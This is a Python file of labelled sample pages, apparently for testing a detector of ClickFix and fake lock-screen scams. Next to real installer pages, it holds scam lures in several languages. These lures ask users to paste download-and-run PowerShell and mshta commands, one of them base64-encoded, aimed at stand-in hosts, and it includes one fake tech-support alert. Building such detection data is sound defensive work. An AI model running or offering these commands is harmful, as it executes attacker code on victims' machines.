# Part G: ClickFix edges (scams dressed as docs, honest copy buttons on small blogs), and brand-free lock screens.
from gen_a import P
P('en_h_blogcopy', 'honest', 'https://janedoe-devnotes.github.io/2026/12/my-terminal-setup/', 'devdocs-copy', 'en', 'My Windows terminal setup',
  "I use oh-my-posh for my prompt. Install it from PowerShell:\nSet-ExecutionPolicy Bypass -Scope Process -Force; Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://ohmyposh.dev/install.ps1'))\nCopy\nThen restart the terminal.",
  "Set-ExecutionPolicy Bypass -Scope Process -Force; Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://ohmyposh.dev/install.ps1'))")
P('en_h_nvm', 'honest', 'https://github.com/nvm-sh/nvm', 'devdocs-copy', 'en', 'nvm-sh/nvm: Node Version Manager',
  "To install or update nvm, run the install script. To do that, you may download and run the script manually, or use the following cURL or Wget command:\ncurl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
  "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash")
P('en_h_ollama', 'honest', 'https://ollama.com/download/linux', 'devdocs-copy', 'en', 'Download Ollama on Linux',
  "Install with one command:\ncurl -fsSL https://ollama.com/install.sh | sh\nCopy", "curl -fsSL https://ollama.com/install.sh | sh")
P('en_h_winutil', 'honest', 'https://winutil.christitus.com/', 'devdocs-copy', 'en', 'Windows Utility',
  "Open PowerShell as Administrator (right-click Start, Terminal (Admin)) and paste:\nirm \"https://christitus.com/win\" | iex\nCopy", "irm \"https://christitus.com/win\" | iex")
P('en_h_newscf', 'honest', 'https://www.bleepingcomputer-example.com/news/security/clickfix-5501/', 'news-scam', 'en', 'New ClickFix attacks use fake Windows Update screens',
  "The page shows a full-screen 'Working on updates' animation and then asks the visitor to press Win+R, Ctrl+V and Enter to 'finish the update'.\nThe copied command was: mshta hxxps://update-0163[.]top/u.hta\nResearchers advise never pasting commands from websites.")
P('en_s_cf_docs', 'scam', 'https://driver-support-0162.com/fix-audio', 'clickfix', 'en', 'How to fix "No audio output device is installed"',
  "This error happens when the audio driver is corrupted.\nQuick fix: open PowerShell (Admin) and paste the command below, then press Enter. The driver will be reinstalled automatically.\nirm https://0162-drivers.top/fix | iex\nCopy", "irm https://0162-drivers.top/fix | iex")
P('en_s_cf_update', 'scam', 'https://w1ndows-upd-0164.com/', 'clickfix', 'en', 'Windows Update',
  "Working on updates 100% complete.\nCritical security update needs your confirmation.\nTo finish: press Win+R, press Ctrl+V, press Enter.", "mshta https://0164.top/upd.hta", 'fullscreen')
P('en_s_cf_github', 'scam', 'https://github-security-notice.com/alert', 'clickfix', 'en', 'GitHub Security Alert',
  "Hey there! We have detected a security vulnerability in your repository.\nTo fix it, press Win+R, paste the command with Ctrl+V and press Enter.", "powershell.exe -w hidden -c \"iwr -useb https://0165.top/gh.ps1 | iex\"")
P('en_s_cf_loading', 'scam', 'https://loading-0166.top/', 'clickfix-terse', 'en', 'Loading...',
  "Loading...", "powershell -e SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvADAAMQA2ADYALgB0AG8AcAAvAGEAKQA=")
P('fr_s_cf_docs', 'scam', 'https://aide-pilote-0167.fr.to/', 'clickfix', 'fr', 'Réparer « Aucun périphérique audio »',
  "Solution rapide : ouvrez PowerShell (administrateur), collez la commande ci-dessous puis appuyez sur Entrée.\nirm https://0167-pilotes.top/f | iex\nCopier", "irm https://0167-pilotes.top/f | iex")
P('en_s_lock_nobrand', 'scam', 'https://sec-center-0168.pages.dev/', 'fakesys-bsod', 'en', 'Security Center',
  "THIS COMPUTER IS NOW BLOCKED TO KEEP YOUR FILES SAFE.\nYour computer has alerted us that it has been infected with a spyware. The following data has been compromised: email credentials, banking passwords, Facebook login.\nContact Support: 1-555-010-0168", None, 'fullscreen')
P('fr_s_cf', 'scam', 'https://verification-0169.fr.to/', 'clickfix', 'fr', 'Vérification',
  "Je ne suis pas un robot\nÉtapes de vérification :\n1. Appuyez sur Windows + R\n2. Appuyez sur Ctrl + V\n3. Appuyez sur Entrée", "powershell -w h -c \"iwr https://0169.top/f|iex\" # Je ne suis pas un robot ID 5501")
P('de_s_cf_docs', 'scam', 'https://treiber-hilfe-0170.de.com/', 'clickfix', 'de', 'Behebung: Kein Audioausgabegerät installiert',
  "Schnelle Lösung: Öffnen Sie PowerShell (Administrator), fügen Sie den folgenden Befehl ein und drücken Sie die Eingabetaste.\nirm https://0170-treiber.top/f | iex\nKopieren", "irm https://0170-treiber.top/f | iex")
P('es_s_cf_docs', 'scam', 'https://ayuda-controladores-0171.com/', 'clickfix', 'es', 'Solución: no hay dispositivo de audio',
  "Solución rápida: abra PowerShell (Administrador), pegue el siguiente comando y pulse Intro.\nirm https://0171-drv.top/f | iex\nCopiar", "irm https://0171-drv.top/f | iex")
P('ja_s_cf_docs', 'scam', 'https://driver-help-0172.jp.net/', 'clickfix', 'ja', '「オーディオ出力デバイスがインストールされていません」の修正方法',
  "簡単な修正：PowerShell（管理者）を開き、以下のコマンドを貼り付けて Enter を押してください。\nirm https://0172-drv.top/f | iex\nコピー", "irm https://0172-drv.top/f | iex")
